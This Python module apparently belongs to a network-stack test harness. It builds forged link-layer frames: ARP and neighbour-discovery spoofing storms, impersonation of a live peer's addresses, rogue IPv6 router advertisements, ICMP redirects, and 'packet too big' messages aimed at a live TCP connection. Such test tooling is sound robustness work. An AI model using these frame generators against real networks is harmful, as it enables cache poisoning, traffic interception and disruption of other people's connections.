"""Frames of attackers on the local link: ARP, neighbour discovery, redirects, and routers' messages
that claim to be about a live connection."""
import random
import socket
import struct

from attacks import ipv4, ipv6, packed, tcp
from harness import CLIENT, CLIENT6, CLIENT_DEV, SERVER, SERVER6, SERVER_DEV
from raw_peer import ACK, checksum, mac_of, words_sum

BROADCAST, ALL_NODES_MAC = b"\xff" * 6, b"\x33\x33\0\0\0\1"
ALL_NODES, ROUTER = "ff02::1", "fe80::bad:1"
STRANGERS = 100  # addresses of the network that attackers claim; the kernel's table is one for all
MACS = 16  # that a peer is claimed to have
OVERRIDE, SOLICITED = 0x20000000, 0x40000000
REQUEST, REPLY = 1, 2


def forged_mac(number):
    return bytes([2, 0xbd, 0, 0, 0, number])


def icmp6(ends, kind, code, body):
    """A message of ICMPv6 in its packet, with the hop limit that neighbour discovery asks for."""
    message = struct.pack("!BBH", kind, code, 0) + body
    pseudo = b"".join(map(packed, ends)) + struct.pack("!II", len(message), socket.IPPROTO_ICMPV6)
    total = 0xffff - words_sum(pseudo + message)
    message = message[:2] + struct.pack("!H", total) + message[4:]
    packet = ipv6(ends, message, socket.IPPROTO_ICMPV6)
    return packet[:7] + b"\xff" + packet[8:]


class LinkAttacker:
    """Frames from the client's device, in anybody's name."""

    def __init__(self, bed):
        self.mac, self.target = mac_of(bed.client, CLIENT_DEV), mac_of(bed.server, SERVER_DEV)

    def frame(self, packet, kind, target=None, source=None):
        frame = (target or self.target) + (source or self.mac) + struct.pack("!H", kind) + packet
        return frame + b"\0" * (60 - len(frame))

    # --- ARP

    def arp(self, operation, claimed, asked, mac, target=None):
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + socket.inet_aton(claimed)
        body += (self.target if operation == REPLY else bytes(6)) + socket.inet_aton(asked)
        return self.frame(body, 0x0806, target or BROADCAST, mac)

    def announcement(self, address, mac):
        """As a station sends it that has just got the address."""
        if ":" in address:
            return self.advertisement(address, mac)
        return self.arp(REQUEST, address, address, mac)

    def arp_storm(self):
        """Questions, announcements and answers of strangers."""
        frames = []
        for host in range(100, 100 + STRANGERS):
            claimed, mac = f"10.77.0.{host}", forged_mac(host)
            frames += [self.arp(REQUEST, claimed, SERVER, mac),
                       self.arp(REQUEST, claimed, SERVER, mac, self.target),
                       self.arp(REQUEST, claimed, f"10.77.3.{host}", mac),
                       self.arp(REQUEST, claimed, claimed, mac),
                       self.arp(REPLY, claimed, claimed, mac),
                       self.arp(REPLY, claimed, SERVER, mac, self.target)]
        return frames

    # --- Neighbour discovery

    def advertisement(self, address, mac, flags=OVERRIDE, to=ALL_NODES):
        body = struct.pack("!I", flags) + packed(address) + b"\2\1" + mac
        target = ALL_NODES_MAC if to == ALL_NODES else self.target
        return self.frame(icmp6((address, to), 136, 0, body), 0x86dd, target, mac)

    def solicitation(self, address, asked, mac):
        body = bytes(4) + packed(asked) + b"\1\1" + mac
        return self.frame(icmp6((address, SERVER6), 135, 0, body), 0x86dd, None, mac)

    def router(self, mtu, lifetime, prefix, number):
        """A router's advertisement of itself, an MTU and a prefix to make addresses from."""
        mac = forged_mac(number)
        body = struct.pack("!BBHII", 64, 0, lifetime, 0, 0) + b"\1\1" + mac
        body += struct.pack("!BBHI", 5, 1, 0, mtu)
        body += struct.pack("!BBBBIII", 3, 4, 64, 0xc0, 7200, 7200, 0) + packed(prefix)
        source = f"fe80::bad:{number:x}"
        return self.frame(icmp6((source, ALL_NODES), 134, 0, body), 0x86dd, ALL_NODES_MAC, mac)

    def ndp_storm(self):
        """Solicitations and advertisements of strangers, and to no end of addresses."""
        frames = []
        for host in range(STRANGERS):
            claimed, mac = f"fd77::bad:{host:x}", forged_mac(host)
            frames += [self.solicitation(claimed, SERVER6, mac),
                       self.solicitation(claimed, f"fd77::77:{host:x}", mac),
                       self.advertisement(claimed, mac),
                       self.advertisement(claimed, mac, OVERRIDE | SOLICITED, SERVER6)]
        return frames

    def routers(self, seed=1):
        """Advertisements of routers that come and go, with prefixes and MTUs of all kinds."""
        draw = random.Random(seed)
        return [self.router(draw.choice((0, 68, 1280, 1400, 9000)), draw.choice((0, 1, 1800)),
                            f"fd{draw.randrange(256):02x}:{draw.randrange(65536):x}::",
                            draw.randrange(1, 17)) for _ in range(200)]

    def redirects(self, live):
        """To other first hops, for the destination of a live connection (`live`: its Injector)."""
        ends = (SERVER, CLIENT)
        quote = ipv4(ends, tcp(ends, (7, live.port, live.acknowledged(), 0, ACK))[:8], total=1500)
        frames = []
        for host in range(2, 50):
            message = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(f"10.77.0.{host}")) + quote
            message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
            packet = ipv4((CLIENT, SERVER), message, socket.IPPROTO_ICMP)
            frames.append(self.frame(packet, 0x0800))
            body = bytes(4) + packed(f"fe80::77:{host:x}") + packed(CLIENT6)
            body += b"\2\1" + forged_mac(host)
            frames.append(self.frame(icmp6((ROUTER, SERVER6), 137, 0, body), 0x86dd))
        return frames

    # --- In the name of the live peer

    def claims(self, addresses=(CLIENT, CLIENT6)):
        """The peer's addresses, each frame with another MAC than the one before, in all the ways
        in which a station may be believed."""
        frames = []
        for number in range(MACS):
            mac = forged_mac(number)
            if CLIENT in addresses:
                frames += [self.announcement(CLIENT, mac),
                           self.arp(REPLY, CLIENT, SERVER, mac, self.target),
                           self.arp(REQUEST, CLIENT, SERVER, mac),
                           self.arp(REPLY, CLIENT, CLIENT, forged_mac(100 + number))]
            if CLIENT6 in addresses:
                frames += [self.announcement(CLIENT6, mac),
                           self.solicitation(CLIENT6, SERVER6, forged_mac(100 + number)),
                           self.advertisement(CLIENT6, mac, OVERRIDE | SOLICITED, SERVER6)]
        return frames

    # --- What routers say

    def too_bigs(self, ends, ports, sequence, count=500, seed=1):
        """Packet too big about a live connection: right 4-tuple, any sequence number but one that
        is under way, all MTUs."""
        draw = random.Random(seed)
        six = ":" in ends[0]
        frames = []
        for _ in range(count):
            far = sequence + draw.randrange(1 << 20, (1 << 32) - (1 << 20))
            mtu = draw.choice((0, 1, 68, 552, 576, 1280, 1400, 65535))
            quote = tcp(ends, (*ports, far, 0, ACK))
            if six:
                inner = ipv6(ends, quote, length=1440)
                packet = icmp6((ROUTER, ends[0]), 2, 0, struct.pack("!I", mtu) + inner)
            else:
                message = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + ipv4(ends, quote, total=1500)
                message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
                packet = ipv4(("10.77.0.200", ends[0]), message, socket.IPPROTO_ICMP)
            frames.append(self.frame(packet, 0x86dd if six else 0x0800))
        return frames
